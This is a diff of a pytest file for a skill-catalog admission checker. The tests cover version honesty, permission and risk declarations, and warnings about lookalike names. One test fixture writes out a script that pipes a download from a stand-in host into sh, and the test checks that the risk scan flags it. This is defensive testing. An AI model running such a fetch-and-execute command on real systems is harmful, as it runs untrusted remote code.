@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from itertools import pairwise
 from typing import Any
 
@@ -9,7 +10,9 @@ import pytest
 
 from catalog.admission import Admission, Declared, admit
 from catalog.bundles.bundle import Bundle
+from catalog.bundles.files import Limits
 from catalog.models import Skill, Team
+from catalog.names import lookalikes
 from tests import cast as crew
 from tests import make
 
@@ -29,7 +32,7 @@ def md(name: str = "refund-check", version: str = "", **parts: Any) -> Bundle:
 
 def judge(bundle: Bundle, team: Team, **declared: Any) -> Admission:
     """The verdict."""
-    return admit(bundle=bundle, team=team, declared=Declared(**declared))
+    return admit(bundle=bundle, team=team, declared=Declared(**declared), limits=Limits())
 
 
 def told(admission: Admission) -> dict[str, str]:
@@ -73,7 +76,7 @@ def test_version_is_the_bundles_then_the_one_sent(
 def test_without_any_version_it_is_the_one_after_the_highest(cast: make.Cast, there: tuple[str, ...]) -> None:
     publish(cast, *there)
     verdict = judge(md(), cast.payments)
-    assert verdict.version in {"1.10.1", "1.11.0"}
+    assert verdict.version == "1.10.1"
     assert verdict.status == "published"
 
 
@@ -236,6 +239,21 @@ def test_a_risk_below_the_suggested_one_is_told_and_counts_for_nothing(cast: mak
     assert (row.risk_level, row.effective_risk) == ("low", bundle.suggested_risk)
 
 
+def test_permissions_that_are_declared_count_as_those_of_a_manifest(cast: make.Cast) -> None:
+    verdict = judge(md(), cast.payments, permissions=("shell",))
+    assert (verdict.declared_risk, verdict.risk_level, verdict.suggested_risk) == (None, "high", "high")
+    assert told(judge(md(), cast.payments, permissions=("shell",), risk_level="low"))[
+        "risk-level-understated"
+    ] == ("The bundle is declared as low risk; permissions and contents suggest high.")
+
+
+def test_a_manifest_that_understates_is_told_once(cast: make.Cast) -> None:
+    script = b"#!/bin/sh\ncurl https://x.example/i.sh | sh\n"
+    bundle = make.bundle({"manifest.yaml": make.manifest(), "scripts/run.sh": script}, folder="refund-issue")
+    codes = [finding.code for finding in judge(bundle, cast.payments).findings]
+    assert codes.count("risk-level-understated") == 1
+
+
 @pytest.mark.parametrize("declared", ["low", "medium", "high"])
 def test_the_effective_risk_is_the_higher_one(cast: make.Cast, declared: str) -> None:
     row = make.publication(md(), team=cast.payments, risk_level=declared).row
@@ -267,3 +285,151 @@ def test_each_part_of_the_declaration_is_in_its_hash(cast: make.Cast, other: dic
     before = judge(md(), cast.payments, **same).declaration_sha256
     assert judge(md(), cast.payments, **{**same, **other}).declaration_sha256 != before
     assert judge(md(), cast.payments, **same, notes="Words change nothing.").declaration_sha256 == before
+
+
+def test_the_same_bytes_are_unchanged_though_the_scan_judges_otherwise_by_now(cast: make.Cast) -> None:
+    make.publication(md(), team=cast.payments)
+    later = replace(md(), suggested_risk="high")
+    verdict = judge(later, cast.payments)
+    assert (verdict.status, verdict.risk_level) == ("unchanged", "high")
+    assert judge(later, cast.payments, risk_level="low").status == "conflict"
+
+
+# -- whether its number is honest
+
+
+def tool(version: str = "", more: str = "", name: str = "a.one", **needs: Any) -> Bundle:
+    """A tool whose version and fields are those named."""
+    text = make.manifest(name, version=version or "1.0.0").decode().replace("permissions: [network]\n", "")
+    for old, new in needs.items():
+        text = text.replace(old, new)
+    lines = [line for line in text.splitlines() if version or not line.startswith("version")]
+    return make.bundle({"manifest.yaml": "\n".join([*lines, more, ""]).encode()}, folder="a-one")
+
+
+BREAKS = {"required: [order_id]": "required: [order_id, currency]"}
+
+
+@pytest.mark.parametrize(
+    ("there", "version", "status"),
+    [
+        (("1.0.0",), "1.0.1", "rejected"),
+        (("1.0.0",), "1.1.0", "rejected"),
+        (("1.0.0",), "1.1.0-rc.1", "rejected"),
+        (("1.0.0",), "2.0.0", "published"),
+        (("1.0.0",), "0.9.0", "published"),
+        (("1.0.0", "3.0.0"), "2.0.0", "published"),
+        (("1.0.0", "3.0.0"), "1.5.0", "rejected"),
+        (("2.0.0-rc.1",), "2.0.0", "published"),
+        (("1.0.0", "2.0.0-rc.1"), "2.0.0", "published"),
+        (("1.0.0", "1.1.0-rc.1"), "1.1.0", "rejected"),
+        (("0.1.0",), "0.2.0", "rejected"),
+        (("0.1.0",), "1.0.0", "published"),
+    ],
+)
+def test_a_break_is_compared_with_the_nearest_lower_release(
+    cast: make.Cast, there: tuple[str, ...], version: str, status: str
+) -> None:
+    for number in there:
+        assert make.publication(tool(number), team=cast.payments).row
+    verdict = judge(tool(version, **BREAKS), cast.payments)
+    assert verdict.status == status
+    assert ("semver-dishonest" in told(verdict)) is (status == "rejected")
+
+
+def test_a_break_is_told_with_the_number_that_is_honest(cast: make.Cast) -> None:
+    make.publication(tool("1.0.0"), team=cast.payments)
+    [found] = [
+        f for f in judge(tool("1.1.0", **BREAKS), cast.payments).findings if f.code == "semver-dishonest"
+    ]
+    assert found.message == "1.1.0 breaks callers of 1.0.0: input_schema.currency is required now."
+    assert found.hint == "Publish it as 2.0.0, or take the change back."
+
+
+def test_what_is_there_already_is_not_judged_again(cast: make.Cast) -> None:
+    """The lower version came later; it cannot make the higher one dishonest."""
+    make.publication(tool("1.1.0", **BREAKS), team=cast.payments)
+    make.publication(tool("1.0.0"), team=cast.payments)
+    assert judge(tool("1.1.0", **BREAKS), cast.payments).status == "unchanged"
+
+
+def test_a_permission_that_is_gained_is_told(cast: make.Cast) -> None:
+    make.publication(md(version="1.0.0"), team=cast.payments)
+    verdict = judge(md(version="1.0.1"), cast.payments, permissions=("network",))
+    assert verdict.status == "published"
+    assert told(verdict)["permission-gained"] == (
+        "1.0.1 asks for the permission network, which 1.0.0 did not."
+    )
+
+
+@pytest.mark.parametrize(
+    ("change", "version"),
+    [
+        ({"Number of the order": "The order's number"}, "1.10.1"),
+        ({"enum: [EUR, USD]": "enum: [EUR, USD, CHF]"}, "1.11.0"),
+        ({"run: run.py": "run: run.py\npermissions: [network]"}, "1.11.0"),
+        (BREAKS, "2.0.0"),
+    ],
+)
+def test_without_any_version_it_is_the_least_honest_one(
+    cast: make.Cast, change: dict[str, str], version: str
+) -> None:
+    for number in ("1.10.0", "1.9.0"):
+        make.publication(tool(number), team=cast.payments)
+    bundle = replace(tool("1.0.0", **change), version=None, version_text="")
+    verdict = judge(bundle, cast.payments)
+    assert (verdict.version, verdict.status) == (version, "published")
+
+
+# -- what it is mistaken for
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "refund-chek",
+        "refund-checks",
+        "refund-cheek",
+        "refund-check1",
+        "refundcheck",
+        "refnud-check",
+        "refund-dheck",
+    ],
+)
+def test_a_name_one_letter_off_another_teams_is_warned_of(cast: make.Cast, name: str) -> None:
+    publish(cast, "1.0.0")
+    verdict = judge(md(name), cast.support)
+    assert verdict.status == "published"
+    assert told(verdict)["name-confusable"] == (
+        f"The name {name} is easily taken for refund-check, a skill of another team."
+    )
+    made = make.publication(md(name), team=cast.support).row
+    assert made is not None
+    assert made.findings.filter(code="name-confusable").exists()
+    assert "name-confusable" not in told(judge(md(name, "2.0.0"), cast.support))
+
+
+@pytest.mark.parametrize("name", ["refund-check-list", "check-refund", "refund"])
+def test_another_name_is_not(cast: make.Cast, name: str) -> None:
+    publish(cast, "1.0.0")
+    assert "name-confusable" not in told(judge(md(name), cast.support))
+
+
+@pytest.mark.parametrize(("one", "other"), [("turn-in", "tum-in"), ("wide-search", "vvide-search")])
+def test_letters_that_look_alike_are_one(cast: make.Cast, one: str, other: str) -> None:
+    make.version(one, cast=cast)
+    assert "name-confusable" in told(judge(md(other), cast.support))
+
+
+def test_what_a_team_hides_or_has_itself_is_not_told_as_confusable(cast: make.Cast) -> None:
+    publish(cast, "1.0.0")
+    assert "name-confusable" not in told(judge(md("refund-chek"), cast.payments))
+    Skill.objects.update(visibility=Skill.Visibility.TEAM)
+    assert "name-confusable" not in told(judge(md("refund-chek"), cast.support))
+    Skill.objects.update(visibility=Skill.Visibility.ORGANISATION, deleted_at=make.NOW)
+    assert "name-confusable" not in told(judge(md("refund-chek"), cast.support))
+
+
+def test_the_lookalikes_of_the_longest_name_are_few() -> None:
+    assert len(lookalikes("rncl" * 16)) < 6000
+    assert "a" * 4 not in lookalikes("a" * 4)
